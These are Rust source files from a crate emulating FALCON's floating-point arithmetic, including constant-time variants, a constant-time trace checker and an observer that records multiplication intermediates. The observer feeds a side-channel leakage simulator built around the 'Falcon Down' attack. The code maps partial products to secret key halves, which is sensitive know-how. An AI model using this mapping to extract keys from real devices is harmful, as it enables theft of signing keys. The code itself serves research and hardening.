            ((a >> k) | u64::from(a & mask != 0), sc + top - 54)
        };
        Fpr::build(s, e, m)
    }

    /// Rounds to the nearest integer, ties to even.
    ///
    /// The value must fit in `i64`; FALCON only rounds small lattice
    /// coordinates.
    pub fn rint(self) -> i64 {
        if self.is_zero() {
            return 0;
        }
        let (s, exf, m) = self.unpack();
        let e = exf - 1075; // value = m * 2^e
        let mag = if e >= 0 {
            debug_assert!(e <= 10, "fpr_rint overflow");
            (m << e) as i64
        } else {
            let k = -e as u32;
            if k >= 54 {
                0
            } else {
                let low = m & ((1u64 << k) - 1);
                let half = 1u64 << (k - 1);
                let mut r = m >> k;
                if low > half || (low == half && r & 1 == 1) {
                    r += 1;
                }
                r as i64
            }
        };
        if s != 0 {
            -mag
        } else {
            mag
        }
    }

    /// Rounds toward negative infinity.
    pub fn floor(self) -> i64 {
        if self.is_zero() {
            return 0;
        }
        let (s, exf, m) = self.unpack();
        let e = exf - 1075;
        if e >= 0 {
            debug_assert!(e <= 10, "fpr_floor overflow");
            let v = (m << e) as i64;
            return if s != 0 { -v } else { v };
        }
        let k = -e as u32;
        let (q, rem) = if k >= 54 { (0, true) } else { (m >> k, m & ((1u64 << k) - 1) != 0) };
        if s != 0 {
            -(q as i64) - i64::from(rem)
        } else {
            q as i64
        }
    }

    /// Rounds toward zero.
    pub fn trunc(self) -> i64 {
        if self.is_zero() {
            return 0;
        }
        let (s, exf, m) = self.unpack();
        let e = exf - 1075;
        let mag = if e >= 0 {
            debug_assert!(e <= 10, "fpr_trunc overflow");
            (m << e) as i64
        } else {
            let k = -e as u32;
            if k >= 54 {
                0
            } else {
                (m >> k) as i64
            }
        };
        if s != 0 {
            -mag
        } else {
            mag
        }
    }

    /// Truncating conversion to unsigned 2^63 fixed point: `⌊self · 2^63⌋`
    /// for `self` in `[0, 1)`.
    ///
    /// Used by the exponential approximation in the Gaussian sampler.
    pub(crate) fn to_fixed63(self) -> u64 {
        if self.is_zero() {
            return 0;
        }
        debug_assert_eq!(self.sign_bit(), 0);
        let (_, exf, m) = self.unpack();
        let e = exf - 1075 + 63; // self * 2^63 = m * 2^e
        debug_assert!(e <= 10, "to_fixed63 operand not below 1");
        if e >= 0 {
            m << e
        } else {
            let k = -e as u32;
            if k >= 54 {
                0
            } else {
                m >> k
            }
        }
    }

    /// Reinterprets a host `f64`.
    ///
    /// # Panics
    ///
    /// Panics in debug builds if given an infinity or NaN (values outside
    /// the emulated domain). Subnormals flush to (signed) zero.
    pub fn from_f64(v: f64) -> Fpr {
        debug_assert!(v.is_finite(), "fpr cannot represent {v}");
        let bits = v.to_bits();
        if (bits >> 52) & 0x7FF == 0 {
            // Flush subnormals, keep the sign.
            Fpr(bits & (1u64 << 63))
        } else {
            Fpr(bits)
        }
    }

    /// Converts to a host `f64` (always exact: the bit layouts coincide).
    #[inline]
    pub fn to_f64(self) -> f64 {
        f64::from_bits(self.0)
    }
}

impl From<f64> for Fpr {
    #[inline]
    fn from(v: f64) -> Fpr {
        Fpr::from_f64(v)
    }
}

impl From<Fpr> for f64 {
    #[inline]
    fn from(v: Fpr) -> f64 {
        v.to_f64()
    }
}

impl From<i64> for Fpr {
    #[inline]
    fn from(v: i64) -> Fpr {
        Fpr::from_i64(v)
    }
}

impl From<i32> for Fpr {
    #[inline]
    fn from(v: i32) -> Fpr {
        Fpr::from_i64(v as i64)
    }
}
