//! FALCON's emulated floating-point arithmetic ("fpr", FPEMU semantics).
//!
//! FALCON approximates IEEE-754 double precision with a custom 64-bit
//! format: 1 sign bit, 11 exponent bits, 52 mantissa bits — the IEEE-754
//! bit layout — but implemented with pure integer arithmetic so it behaves
//! identically on every platform:
//!
//! * rounding is round-to-nearest, ties-to-even, realised with sticky bits;
//! * subnormal results are flushed to zero;
//! * infinities and NaNs never occur on FALCON's value ranges and are not
//!   representable results.
//!
//! The multiplication routine decomposes exactly as in the reference
//! implementation (and as attacked by the *Falcon Down* paper, DAC 2021):
//! the 53-bit mantissas (52 stored bits plus the implicit leading one) are
//! split into a **high 28-bit** and a **low 25-bit** half, four schoolbook
//! partial products are formed, accumulated with carry additions, the
//! below-precision "sticky" bits are folded into the lowest kept bit, and
//! the 106-bit product is rounded back to 53 bits.
//!
//! Every micro-operation of the multiplication can be reported to a
//! [`MulObserver`], which is how the side-channel simulator in
//! `falcon-emsim` derives data-dependent leakage from real executions.
//!
//! ```
//! use falcon_fpr::Fpr;
//!
//! let x = Fpr::from_i64(3);
//! let y = Fpr::from(0.5_f64);
//! assert_eq!((x * y).to_f64(), 1.5);
//! ```

#![forbid(unsafe_code)]

mod add;
mod consts;
pub mod ctcheck;
mod cvt;
mod div;
mod exp;
mod mul;
mod observe;
mod repr;
mod sqrt;

pub use consts::*;
pub use observe::{Lane, MulObserver, MulStep, NullObserver, RecordingObserver};
pub use repr::Fpr;

#[cfg(test)]
mod fuzz_tests;
#[cfg(test)]
mod tests;
