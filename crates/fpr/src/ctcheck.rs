//! Control-flow trace hooks for the constant-time checker (`falcon-ct`).
//!
//! With the `ct-check` feature enabled, the arithmetic primitives mark
//! every control-flow site they execute — function entries, loop bodies,
//! pack points — by calling [`site`]; code whose memory addressing could
//! depend on data additionally calls [`index`]. The `falcon-ct` dynamic
//! checker arms a thread-local recorder, runs a primitive over
//! fixed-vs-random secret operand classes, and demands that the recorded
//! site sequence (the *trace signature*) is identical for every run: a
//! secret-dependent branch, early return or data-dependent loop trip
//! count shows up as a signature mismatch.
//!
//! Without the feature the hooks are empty `#[inline(always)]` functions
//! and compile to nothing; with the feature but no armed recorder each
//! hook is a single relaxed atomic load (the same cheap-off-path pattern
//! as `falcon_obs::emit`).

/// Trace site identifiers, one per instrumented control-flow location.
///
/// Values are stable API: the `falcon-ct` self-tests assert on specific
/// sequences, and renumbering would invalidate recorded signatures.
pub mod sites {
    /// `Fpr::mul` entry.
    pub const MUL: u32 = 0x10;
    /// `Fpr::add` entry.
    pub const ADD: u32 = 0x20;
    /// `Fpr::div` entry.
    pub const DIV: u32 = 0x30;
    /// One restoring-division iteration (must appear exactly 56 times).
    pub const DIV_LOOP: u32 = 0x31;
    /// `Fpr::sqrt` entry.
    pub const SQRT: u32 = 0x40;
    /// One restoring-square-root iteration (must appear exactly 55 times).
    pub const SQRT_LOOP: u32 = 0x41;
    /// `Fpr::expm_p63` entry.
    pub const EXPM: u32 = 0x50;
    /// One Horner iteration of the exponential (fixed 20 repetitions).
    pub const EXPM_LOOP: u32 = 0x51;
    /// `Fpr::scaled` entry.
    pub const SCALED: u32 = 0x60;
    /// `Fpr::rint` entry.
    pub const RINT: u32 = 0x61;
    /// `Fpr::floor` entry.
    pub const FLOOR: u32 = 0x62;
    /// `Fpr::trunc` entry.
    pub const TRUNC: u32 = 0x63;
    /// `Fpr::to_fixed63` entry.
    pub const TO_FIXED63: u32 = 0x64;
    /// `Fpr::build` (pack) — terminates every arithmetic signature.
    pub const BUILD: u32 = 0x70;
    /// `Fpr::double` entry.
    pub const DOUBLE: u32 = 0x71;
    /// `Fpr::half` entry.
    pub const HALF: u32 = 0x72;
}

#[cfg(feature = "ct-check")]
mod imp {
    use std::cell::RefCell;
    use std::sync::atomic::{AtomicBool, Ordering};

    /// Process-wide fast gate: when false (the default), hooks cost one
    /// relaxed load. Arming is only meaningful for the arming thread —
    /// recording state itself is thread-local.
    static ARMED: AtomicBool = AtomicBool::new(false);

    thread_local! {
        static TRACE: RefCell<Option<Vec<u32>>> = const { RefCell::new(None) };
    }

    /// Records an executed control-flow site (when armed on this thread).
    #[inline]
    pub fn site(id: u32) {
        if ARMED.load(Ordering::Relaxed) {
            TRACE.with(|t| {
                if let Some(v) = t.borrow_mut().as_mut() {
                    v.push(id);
                }
            });
        }
    }

    /// Records a data-dependent memory access: the site and the index
    /// (address surrogate) both enter the signature, so secret-indexed
    /// lookups diverge across operand classes.
    #[inline]
    pub fn index(id: u32, idx: usize) {
        if ARMED.load(Ordering::Relaxed) {
            TRACE.with(|t| {
                if let Some(v) = t.borrow_mut().as_mut() {
                    v.push(id);
                    v.push(idx as u32);
                }
            });
        }
    }

    /// Starts recording on the current thread with an empty trace.
    pub fn arm() {
        TRACE.with(|t| *t.borrow_mut() = Some(Vec::with_capacity(128)));
        ARMED.store(true, Ordering::Relaxed);
    }

    /// Stops recording and returns the trace captured on this thread.
    pub fn disarm() -> Vec<u32> {
        ARMED.store(false, Ordering::Relaxed);
        TRACE.with(|t| t.borrow_mut().take().unwrap_or_default())
    }
}

#[cfg(feature = "ct-check")]
pub use imp::{arm, disarm, index, site};

#[cfg(not(feature = "ct-check"))]
mod imp {
    /// No-op site marker (the `ct-check` feature is disabled).
    #[inline(always)]
    pub fn site(_id: u32) {}

    /// No-op index marker (the `ct-check` feature is disabled).
    #[inline(always)]
    pub fn index(_id: u32, _idx: usize) {}
}

#[cfg(not(feature = "ct-check"))]
pub use imp::{index, site};
