//! Emulated division and reciprocal.

use crate::repr::Fpr;
use core::ops::{Div, DivAssign};

// Inherent `div` mirrors the reference API; `Div` is implemented below.
#[allow(clippy::should_implement_trait)]
impl Fpr {
    /// Emulated division with round-to-nearest-even.
    ///
    /// The divisor must be nonzero (FALCON never divides by zero); in
    /// debug builds a zero divisor panics, in release the result is
    /// unspecified, matching the reference implementation's contract.
    pub fn div(self, rhs: Fpr) -> Fpr {
        debug_assert!(!rhs.is_zero(), "fpr division by zero");
        crate::ctcheck::site(crate::ctcheck::sites::DIV);
        // ct: secret(self, rhs)
        let (sx, ex, xu) = self.unpack();
        let (sy, ey, yu) = rhs.unpack();
        let s = sx ^ sy;

        // q = floor(xu·2^55 / yu), the 56-bit quotient of the 53-bit
        // mantissas, via restoring division: 56 iterations of compare,
        // masked subtract and shift — the same fixed instruction
        // sequence for every operand pair, unlike a hardware divide
        // whose latency is data-dependent. xu < 2·yu keeps the partial
        // remainder below 2^54 throughout.
        let mut num = xu;
        let mut q: u64 = 0;
        for _ in 0..56 {
            crate::ctcheck::site(crate::ctcheck::sites::DIV_LOOP);
            let b = u64::from(num >= yu);
            num -= yu & b.wrapping_neg();
            q = (q << 1) | b;
            num <<= 1;
        }
        // A nonzero final remainder folds into the sticky bit.
        let sticky = u64::from(num != 0);

        // q is in [2^54, 2^56); fold the possible top bit down with its
        // sticky, exactly as in multiplication's renormalisation.
        let hi = q >> 55;
        let m = (q >> hi) | (q & hi) | sticky;
        let e = ex - ey - 55 + hi as i32;

        // A zero dividend (exponent field 0) flushes at pack time; the
        // division loop above still runs on its (masked-out) mantissa.
        let live = ((ex != 0) as u64).wrapping_neg();
        Fpr::build(s, e, m & live)
        // ct: end
    }

    /// Reciprocal `1 / self`.
    #[inline]
    pub fn inv(self) -> Fpr {
        Fpr::ONE.div(self)
    }
}

impl Div for Fpr {
    type Output = Fpr;
    #[inline]
    fn div(self, rhs: Fpr) -> Fpr {
        Fpr::div(self, rhs)
    }
}

impl DivAssign for Fpr {
    #[inline]
    fn div_assign(&mut self, rhs: Fpr) {
        *self = Fpr::div(*self, rhs);
    }
}
