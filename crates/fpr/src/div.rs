//! Emulated division and reciprocal.

use crate::repr::Fpr;
use core::ops::{Div, DivAssign};

// Inherent `div` mirrors the reference API; `Div` is implemented below.
#[allow(clippy::should_implement_trait)]
impl Fpr {
    /// Emulated division with round-to-nearest-even.
    ///
    /// The divisor must be nonzero (FALCON never divides by zero); in
    /// debug builds a zero divisor panics, in release the result is
    /// unspecified, matching the reference implementation's contract.
    pub fn div(self, rhs: Fpr) -> Fpr {
        debug_assert!(!rhs.is_zero(), "fpr division by zero");
        let (sx, ex, xu) = self.unpack();
        let (sy, ey, yu) = rhs.unpack();
        let s = sx ^ sy;
        if ex == 0 {
            return Fpr((s as u64) << 63);
        }

        // 56-bit quotient of the 53-bit mantissas, with the remainder
        // folded into a sticky bit.
        let num = (xu as u128) << 55;
        let den = yu as u128;
        let q = (num / den) as u64;
        let sticky = u64::from(!num.is_multiple_of(den));

        let (m, e) = if q >> 55 != 0 {
            (((q >> 1) | (q & 1)) | sticky, ex - ey - 54)
        } else {
            (q | sticky, ex - ey - 55)
        };
        Fpr::build(s, e, m)
    }

    /// Reciprocal `1 / self`.
    #[inline]
    pub fn inv(self) -> Fpr {
        Fpr::ONE.div(self)
    }
}

impl Div for Fpr {
    type Output = Fpr;
    #[inline]
    fn div(self, rhs: Fpr) -> Fpr {
        Fpr::div(self, rhs)
    }
}

impl DivAssign for Fpr {
    #[inline]
    fn div_assign(&mut self, rhs: Fpr) {
        *self = Fpr::div(*self, rhs);
    }
}
