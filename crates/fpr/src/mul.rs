//! Emulated multiplication — the operation attacked by *Falcon Down*.
//!
//! The dataflow follows the reference FPEMU routine and the paper's
//! Figure 2: 53-bit mantissas are split into 25-bit low and 28-bit high
//! halves, four schoolbook partial products are accumulated in 25-bit
//! limbs, sub-precision bits fold into a sticky bit, and the product is
//! renormalised; the exponent is an 11-bit addition with the mantissa
//! carry, and the sign is a single XOR.

use crate::observe::{Lane, MulObserver, MulStep, NullObserver};
use crate::repr::Fpr;
use core::ops::{Mul, MulAssign};

/// Mask of a 25-bit limb.
const LIMB: u32 = 0x1FF_FFFF;

// Inherent `mul` mirrors the reference API; `Mul` is implemented below.
#[allow(clippy::should_implement_trait)]
impl Fpr {
    /// Emulated multiplication with round-to-nearest-even.
    #[inline]
    pub fn mul(self, rhs: Fpr) -> Fpr {
        self.mul_observed(rhs, &mut NullObserver)
    }

    /// Emulated multiplication reporting every micro-operation to `obs`.
    ///
    /// The arithmetic result is identical to [`Fpr::mul`]; the observer
    /// only taps the intermediates. Note that, like the reference code,
    /// the full mantissa pipeline executes even when an operand is zero —
    /// the zero is applied at pack time — so the leakage of the observed
    /// device does not short-circuit on special values.
    pub fn mul_observed<O: MulObserver>(self, rhs: Fpr, obs: &mut O) -> Fpr {
        crate::ctcheck::site(crate::ctcheck::sites::MUL);
        obs.record(MulStep::OperandLoad { x: self.0, y: rhs.0 });

        // ct: secret(self, rhs)
        let (sx, ex, xu) = self.unpack();
        let (sy, ey, yu) = rhs.unpack();

        // Mantissa split: low 25 bits and high 28 bits of the 53-bit
        // mantissa (implicit leading one included).
        let x0 = (xu as u32) & LIMB;
        let x1 = (xu >> 25) as u32;
        let y0 = (yu as u32) & LIMB;
        let y1 = (yu >> 25) as u32;
        obs.record(MulStep::MantissaSplit { x_lo: x0, x_hi: x1, y_lo: y0, y_hi: y1 });

        // Schoolbook 53×53 → 106-bit product in 25-bit limbs z0, z1 and a
        // 56-bit top accumulator zu, with explicit carry additions (the
        // "intermediate additions" targeted by the prune phase).
        let w_ll = (x0 as u64) * (y0 as u64);
        obs.record(MulStep::PartialProduct { lane: Lane::LoLo, value: w_ll });
        let z0 = (w_ll as u32) & LIMB;
        let mut z1 = (w_ll >> 25) as u32;

        let w_lh = (x0 as u64) * (y1 as u64);
        obs.record(MulStep::PartialProduct { lane: Lane::LoHi, value: w_lh });
        z1 += (w_lh as u32) & LIMB;
        let mut z2 = (w_lh >> 25) as u32;
        obs.record(MulStep::IntermediateAdd { lane: Lane::LoHi, value: z1 as u64 });

        let w_hl = (x1 as u64) * (y0 as u64);
        obs.record(MulStep::PartialProduct { lane: Lane::HiLo, value: w_hl });
        z1 += (w_hl as u32) & LIMB;
        z2 += (w_hl >> 25) as u32;
        obs.record(MulStep::IntermediateAdd { lane: Lane::HiLo, value: z1 as u64 });

        let w_hh = (x1 as u64) * (y1 as u64);
        obs.record(MulStep::PartialProduct { lane: Lane::HiHi, value: w_hh });
        z2 += z1 >> 25;
        let z1 = z1 & LIMB;
        let mut zu = w_hh + z2 as u64;
        obs.record(MulStep::IntermediateAdd { lane: Lane::HiHi, value: zu });

        // Fold the two discarded limbs (the "unused, sticky bits") into
        // the lowest kept bit.
        zu |= u64::from((z0 | z1) != 0);
        obs.record(MulStep::StickyFold { value: zu });

        // zu is in [2^54, 2^56); renormalise to [2^54, 2^55), keeping a
        // sticky bit, and remember the carry for the exponent. `carry`
        // is 0 or 1, so the conditional shift-with-sticky reduces to a
        // branch-free variable shift.
        let carry = zu >> 55;
        let m = (zu >> carry) | (zu & carry);
        obs.record(MulStep::Normalize { mantissa: m });

        // Exponent addition (biased fields, constant re-bias, plus the
        // mantissa normalisation carry).
        let e = ex + ey - 2100 + carry as i32;
        obs.record(MulStep::ExponentAdd { value: e as u32 });

        // Sign computation.
        let s = sx ^ sy;
        obs.record(MulStep::SignXor { value: s });

        // A zero operand (exponent field 0) forces a signed-zero result,
        // applied as a mantissa mask at pack time so the full pipeline
        // runs identically for every operand.
        let live = (((ex != 0) & (ey != 0)) as u64).wrapping_neg();
        let r = Fpr::build(s, e, m & live);
        // ct: end
        obs.record(MulStep::Pack { result: r.to_bits() });
        r
    }

    /// Squares the value.
    #[inline]
    pub fn sqr(self) -> Fpr {
        self.mul(self)
    }
}

impl Mul for Fpr {
    type Output = Fpr;
    #[inline]
    fn mul(self, rhs: Fpr) -> Fpr {
        Fpr::mul(self, rhs)
    }
}

impl MulAssign for Fpr {
    #[inline]
    fn mul_assign(&mut self, rhs: Fpr) {
        *self = Fpr::mul(*self, rhs);
    }
}
