//! Named floating-point constants used across FALCON.

use crate::repr::Fpr;

/// Natural logarithm of two.
pub const LN2: Fpr = Fpr::from_bits(0x3FE6_2E42_FEFA_39EF);

/// `1 / ln 2`.
pub const INV_LN2: Fpr = Fpr::from_bits(0x3FF7_1547_652B_82FE);

/// `ln 2 / 2` — the log-scale half used by `fpr_exp` style splits.
pub const LN2_HALF: Fpr = Fpr::from_bits(0x3FD6_2E42_FEFA_39EF);

/// The base sampler's standard deviation `σ0 = 1.8205` (also the global
/// maximum standard deviation `σ_max` accepted by `SamplerZ`).
pub const SIGMA0: Fpr = Fpr::from_bits(0x3FFD_20C4_9BA5_E354);

/// `1 / (2 σ0²)` with `σ0 = 1.8205`.
pub const INV_2SQRSIGMA0: Fpr = Fpr::from_bits(0x3FC3_4F8B_C183_BBC2);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constant_bit_patterns() {
        assert_eq!(LN2.to_f64(), core::f64::consts::LN_2);
        assert_eq!(INV_LN2.to_f64(), 1.0 / core::f64::consts::LN_2);
        assert_eq!(LN2_HALF.to_f64(), core::f64::consts::LN_2 / 2.0);
        assert_eq!(SIGMA0.to_f64(), 1.8205);
        let want = 1.0 / (2.0 * 1.8205 * 1.8205);
        assert!((INV_2SQRSIGMA0.to_f64() - want).abs() < 1e-16);
    }
}
