//! Emulated addition and subtraction.

use crate::repr::Fpr;
use core::ops::{Add, AddAssign, Neg, Sub, SubAssign};

// The inherent `add`/`sub` mirror the reference implementation's API;
// the std operator traits are implemented below in terms of them.
#[allow(clippy::should_implement_trait)]
impl Fpr {
    /// Emulated addition with round-to-nearest-even.
    ///
    /// Matches the FALCON reference semantics: operands are aligned with a
    /// sticky bit absorbing everything shifted out, the result is
    /// renormalised and rounded, and subnormal results flush to zero.
    pub fn add(self, rhs: Fpr) -> Fpr {
        // Order operands so that |x| >= |y|; when magnitudes are equal,
        // prefer the non-negative one first so that exact cancellation
        // yields +0 (IEEE round-to-nearest behaviour).
        let (x, y) = {
            let ax = self.0 & !(1u64 << 63);
            let ay = rhs.0 & !(1u64 << 63);
            if ax < ay || (ax == ay && self.sign_bit() == 1) {
                (rhs, self)
            } else {
                (self, rhs)
            }
        };

        let sx = x.sign_bit();
        let sy = y.sign_bit();

        // Scale mantissas up by 8 (three guard bits) and express both
        // values as m * 2^(e): a zero exponent field means the value is
        // zero, so the implicit bit is only set for nonzero operands.
        let exf = x.exponent_bits() as i32;
        let eyf = y.exponent_bits() as i32;
        let xu = if exf == 0 { 0 } else { (x.mantissa_bits() | (1u64 << 52)) << 3 };
        let mut yu = if eyf == 0 { 0 } else { (y.mantissa_bits() | (1u64 << 52)) << 3 };
        let ex = exf - 1078;
        let ey = eyf - 1078;

        // Align y to x's exponent. Beyond 59 positions y cannot influence
        // the rounded result (x's guard bits fully decide it), so it is
        // dropped entirely, as in the reference implementation.
        let cc = ex - ey;
        debug_assert!(cc >= 0);
        if cc > 59 {
            yu = 0;
        } else if cc > 0 {
            let mask = (1u64 << cc) - 1;
            let sticky = u64::from(yu & mask != 0);
            yu = (yu >> cc) | sticky;
        }

        // Same sign: magnitude addition; opposite signs: subtraction
        // (non-negative because |x| >= |y|). The result sign is x's.
        let zu = if sx == sy { xu + yu } else { xu - yu };

        if zu == 0 {
            return Fpr((sx as u64) << 63);
        }

        // Renormalise to a 55-bit mantissa (top bit at position 54),
        // folding right-shifted bits into the sticky position.
        let top = 63 - zu.leading_zeros() as i32;
        let (m, e) = if top > 54 {
            let k = (top - 54) as u32;
            let mask = (1u64 << k) - 1;
            (((zu >> k) | u64::from(zu & mask != 0)), ex + top - 54)
        } else {
            (zu << (54 - top) as u32, ex + top - 54)
        };

        Fpr::build(sx, e, m)
    }

    /// Emulated subtraction: `self - rhs`.
    #[inline]
    pub fn sub(self, rhs: Fpr) -> Fpr {
        self.add(rhs.neg())
    }
}

impl Add for Fpr {
    type Output = Fpr;
    #[inline]
    fn add(self, rhs: Fpr) -> Fpr {
        Fpr::add(self, rhs)
    }
}

impl Sub for Fpr {
    type Output = Fpr;
    #[inline]
    fn sub(self, rhs: Fpr) -> Fpr {
        Fpr::sub(self, rhs)
    }
}

impl Neg for Fpr {
    type Output = Fpr;
    #[inline]
    fn neg(self) -> Fpr {
        Fpr::neg(self)
    }
}

impl AddAssign for Fpr {
    #[inline]
    fn add_assign(&mut self, rhs: Fpr) {
        *self = Fpr::add(*self, rhs);
    }
}

impl SubAssign for Fpr {
    #[inline]
    fn sub_assign(&mut self, rhs: Fpr) {
        *self = Fpr::sub(*self, rhs);
    }
}
