//! Emulated addition and subtraction.

use crate::repr::Fpr;
use core::ops::{Add, AddAssign, Neg, Sub, SubAssign};

// The inherent `add`/`sub` mirror the reference implementation's API;
// the std operator traits are implemented below in terms of them.
#[allow(clippy::should_implement_trait)]
impl Fpr {
    /// Emulated addition with round-to-nearest-even.
    ///
    /// Matches the FALCON reference semantics: operands are aligned with a
    /// sticky bit absorbing everything shifted out, the result is
    /// renormalised and rounded, and subnormal results flush to zero.
    pub fn add(self, rhs: Fpr) -> Fpr {
        crate::ctcheck::site(crate::ctcheck::sites::ADD);
        // ct: secret(self, rhs)
        // Order operands so that |x| >= |y|; when magnitudes are equal,
        // prefer the non-negative one first so that exact cancellation
        // yields +0 (IEEE round-to-nearest behaviour). The swap is a
        // mask select rather than a branch.
        let am = self.0 & !(1u64 << 63);
        let bm = rhs.0 & !(1u64 << 63);
        let swap = (((am < bm) | ((am == bm) & (self.sign_bit() == 1))) as u64).wrapping_neg();
        let x = Fpr((self.0 & !swap) | (rhs.0 & swap));
        let y = Fpr((rhs.0 & !swap) | (self.0 & swap));

        let sx = x.sign_bit();
        let sy = y.sign_bit();

        // Scale mantissas up by 8 (three guard bits) and express both
        // values as m * 2^(e): a zero exponent field means the value is
        // zero, so the implicit bit is only kept for nonzero operands
        // (masked, not branched).
        let exf = x.exponent_bits() as i32;
        let eyf = y.exponent_bits() as i32;
        let xm = ((exf != 0) as u64).wrapping_neg();
        let ym = ((eyf != 0) as u64).wrapping_neg();
        let xu = ((x.mantissa_bits() | (1u64 << 52)) << 3) & xm;
        let yu = ((y.mantissa_bits() | (1u64 << 52)) << 3) & ym;
        let ex = exf - 1078;
        let ey = eyf - 1078;

        // Align y to x's exponent. Beyond 59 positions y cannot influence
        // the rounded result (x's guard bits fully decide it), so it is
        // dropped entirely, as in the reference implementation; the
        // drop is a mask and the shift count is clamped so the in-range
        // lane is computed unconditionally.
        let cc = (ex - ey) as u32;
        debug_assert!(ex >= ey);
        let keep = ((cc <= 59) as u64).wrapping_neg();
        let sh = cc & 63;
        let smask = (1u64 << sh) - 1;
        let sticky = u64::from(yu & smask != 0);
        let yu = ((yu >> sh) | sticky) & keep;

        // Same sign: magnitude addition; opposite signs: subtraction
        // (non-negative because |x| >= |y|), realised by conditionally
        // negating the aligned addend. The result sign is x's.
        let opp = ((sx ^ sy) as u64).wrapping_neg();
        let zu = xu.wrapping_add((yu ^ opp).wrapping_sub(opp));

        // Renormalise to a 55-bit mantissa (top bit at position 54),
        // folding right-shifted bits into the sticky position. The
        // left/right shift pair is selected by masks; `zu | 1` keeps the
        // shift amounts in range for the fully-cancelled case, whose
        // mantissa is then masked to zero so the packer emits x's signed
        // zero.
        let nz = ((zu != 0) as u64).wrapping_neg();
        let top = 63 - (zu | 1).leading_zeros() as i32;
        let d = top - 54;
        let kr = (d & !(d >> 31)) as u32;
        let kl = ((-d) & !((-d) >> 31)) as u32;
        let rmask = (1u64 << kr) - 1;
        let rsticky = u64::from(zu & rmask != 0);
        let m = (((zu >> kr) | rsticky) << kl) & nz;

        Fpr::build(sx, ex + d, m)
        // ct: end
    }

    /// Emulated subtraction: `self - rhs`.
    #[inline]
    pub fn sub(self, rhs: Fpr) -> Fpr {
        self.add(rhs.neg())
    }
}

impl Add for Fpr {
    type Output = Fpr;
    #[inline]
    fn add(self, rhs: Fpr) -> Fpr {
        Fpr::add(self, rhs)
    }
}

impl Sub for Fpr {
    type Output = Fpr;
    #[inline]
    fn sub(self, rhs: Fpr) -> Fpr {
        Fpr::sub(self, rhs)
    }
}

impl Neg for Fpr {
    type Output = Fpr;
    #[inline]
    fn neg(self) -> Fpr {
        Fpr::neg(self)
    }
}

impl AddAssign for Fpr {
    #[inline]
    fn add_assign(&mut self, rhs: Fpr) {
        *self = Fpr::add(*self, rhs);
    }
}

impl SubAssign for Fpr {
    #[inline]
    fn sub_assign(&mut self, rhs: Fpr) {
        *self = Fpr::sub(*self, rhs);
    }
}
