//! Micro-operation observation of the emulated multiplication.
//!
//! The *Falcon Down* attack targets intermediate values inside FALCON's
//! floating-point multiplication. To simulate the electromagnetic leakage
//! of those intermediates, the multiplication routine reports each
//! micro-operation — operand loads, mantissa split, the four schoolbook
//! partial products, the carry additions, sticky folding, normalisation,
//! exponent addition, sign XOR and the final pack — to a [`MulObserver`].
//!
//! The plain arithmetic entry points use [`NullObserver`], which the
//! compiler removes entirely.

/// Which schoolbook partial product a [`MulStep::PartialProduct`] or
/// [`MulStep::IntermediateAdd`] refers to.
///
/// Operand mantissas are split into a low 25-bit half (`lo`) and a high
/// 28-bit half (`hi`); in the paper's notation the known operand halves
/// are `B` (lo) / `A` (hi) and the secret halves are `D` (lo) / `C` (hi).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Lane {
    /// `x_lo * y_lo` — the paper's `D × B` product.
    LoLo,
    /// `x_lo * y_hi` — the paper's `D × A` product.
    LoHi,
    /// `x_hi * y_lo` — the paper's `C × B` product.
    HiLo,
    /// `x_hi * y_hi` — the paper's `C × A` product.
    HiHi,
}

/// One micro-operation of the emulated floating-point multiplication, in
/// execution order (mantissa work first, then exponent, then sign — the
/// temporal layout visible in the paper's Figure 3 trace).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MulStep {
    /// The two 64-bit operands are fetched from memory.
    OperandLoad { x: u64, y: u64 },
    /// Mantissas (with the implicit bit) split into 25-bit low and 28-bit
    /// high halves.
    MantissaSplit { x_lo: u32, x_hi: u32, y_lo: u32, y_hi: u32 },
    /// A 32×32→64 schoolbook partial product.
    PartialProduct { lane: Lane, value: u64 },
    /// An accumulation (carry addition) of partial products — the target
    /// of the paper's *prune* phase.
    IntermediateAdd { lane: Lane, value: u64 },
    /// The below-precision bits are folded into the sticky position.
    StickyFold { value: u64 },
    /// The 56-bit product top after renormalisation.
    Normalize { mantissa: u64 },
    /// The exponent addition result (biased sum plus normalisation carry),
    /// as the two's-complement word the device manipulates.
    ExponentAdd { value: u32 },
    /// The sign XOR of the operand sign bits.
    SignXor { value: u32 },
    /// The packed 64-bit result written back.
    Pack { result: u64 },
}

impl MulStep {
    /// The primary data word manipulated by this micro-op, as a `u64`.
    ///
    /// This is the value whose Hamming weight drives the simulated
    /// leakage sample for the step.
    pub fn data_word(&self) -> u64 {
        match *self {
            MulStep::OperandLoad { x, y } => x ^ y.rotate_left(32),
            MulStep::MantissaSplit { x_lo, x_hi, y_lo, y_hi } => {
                (x_lo as u64)
                    ^ ((x_hi as u64) << 25)
                    ^ (y_lo as u64).rotate_left(32)
                    ^ ((y_hi as u64) << 36)
            }
            MulStep::PartialProduct { value, .. } => value,
            MulStep::IntermediateAdd { value, .. } => value,
            MulStep::StickyFold { value } => value,
            MulStep::Normalize { mantissa } => mantissa,
            MulStep::ExponentAdd { value } => value as u64,
            MulStep::SignXor { value } => value as u64,
            MulStep::Pack { result } => result,
        }
    }
}

/// Receiver of multiplication micro-operations.
///
/// Implementations must be cheap: `record` is called roughly a dozen times
/// per multiplication on the observed code path.
pub trait MulObserver {
    /// Called for each micro-operation, in execution order.
    fn record(&mut self, step: MulStep);

    /// Called when the observed computation moves to a new polynomial
    /// coefficient (used by trace capture to annotate segment boundaries).
    /// The default implementation ignores the notification.
    fn begin_coefficient(&mut self, _index: usize) {}
}

/// An observer that discards everything; optimises to nothing.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct NullObserver;

impl NullObserver {
    /// Creates a new no-op observer.
    pub fn new() -> Self {
        NullObserver
    }
}

impl MulObserver for NullObserver {
    #[inline(always)]
    fn record(&mut self, _step: MulStep) {}
}

/// An observer that stores every micro-operation, for tests and for the
/// leakage simulator.
#[derive(Debug, Clone, Default)]
pub struct RecordingObserver {
    /// Recorded steps, in execution order.
    pub steps: Vec<MulStep>,
    /// `(coefficient_index, position in steps)` markers.
    pub boundaries: Vec<(usize, usize)>,
}

impl RecordingObserver {
    /// Creates an empty recording observer.
    pub fn new() -> Self {
        Self::default()
    }
}

impl MulObserver for RecordingObserver {
